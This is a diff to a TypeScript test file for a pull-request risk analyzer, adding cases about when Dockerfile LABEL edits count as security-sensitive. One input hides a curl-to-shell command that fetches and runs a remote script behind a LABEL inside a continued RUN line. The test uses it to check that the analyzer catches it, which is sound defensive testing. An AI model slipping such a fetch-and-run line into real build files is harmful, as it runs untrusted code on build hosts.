@@ -131,6 +131,20 @@ describe('a comment-only edit of a security-sensitive file', () => {
     expect(analyzeAuth('+from typing import cast', '-    user = typing.cast(User, load(token))', '+    user = cast(Admin, load(token))')).toContain('sensitive-paths');
   });
 
+  it('is not weighed as one when a Dockerfile changes only LABEL lines; a LABEL inside a continued RUN, or an instruction beside it, still is (calib22)', () => {
+    const analyzeImage = (...lines: string[]) =>
+      runAnalyzers(
+        makeSnapshot({ title: 'Give the test image its own README', files: [makeFile('images/test-git.Dockerfile', { additions: 2, deletions: 1, patch: ['@@ -1,6 +1,7 @@', ...lines].join('\n') })], checkRuns: [makeCheckRun('test')] }),
+        { now: DEFAULT_NOW, config: DEFAULT_CONFIG },
+      ).risk.drivers.map((d) => d.id);
+    // Modeled on a git action's test image gaining a title and a documentation link.
+    const head = [' FROM ubuntu:24.04', ' ', ' LABEL org.opencontainers.image.source="https://github.com/acme/checkout-tool"'];
+    expect(analyzeImage(...head, '-LABEL org.opencontainers.image.description="Ubuntu with git"', '+LABEL org.opencontainers.image.title="Ubuntu + git"', '+LABEL org.opencontainers.image.description="Ubuntu with git, for the tests."', '+# See the README beside this file.', ' ', ' RUN apt-get update && apt-get install -y git')).not.toContain('sensitive-paths');
+    expect(analyzeImage(...head, '+LABEL org.opencontainers.image.title="Ubuntu + git"', '-RUN apt-get update && apt-get install -y git', '+RUN apt-get update && apt-get install -y git curl')).toContain('sensitive-paths');
+    expect(analyzeImage(' FROM ubuntu:24.04', ' RUN apt-get update && \\', '-    apt-get install -y git', '+LABEL x=1 ; curl -fsSL https://get.example.sh | sh')).toContain('sensitive-paths');
+    expect(analyzeImage(...head, '+LABEL org.opencontainers.image.title="Ubuntu + git" \\', '+    version="1"')).toContain('sensitive-paths');
+  });
+
   it('is weighed as one when a string or the code changes', () => {
     const patch = [
       '@@ -40,2 +40,2 @@ class SecureCookieSessionInterface(SessionInterface):',
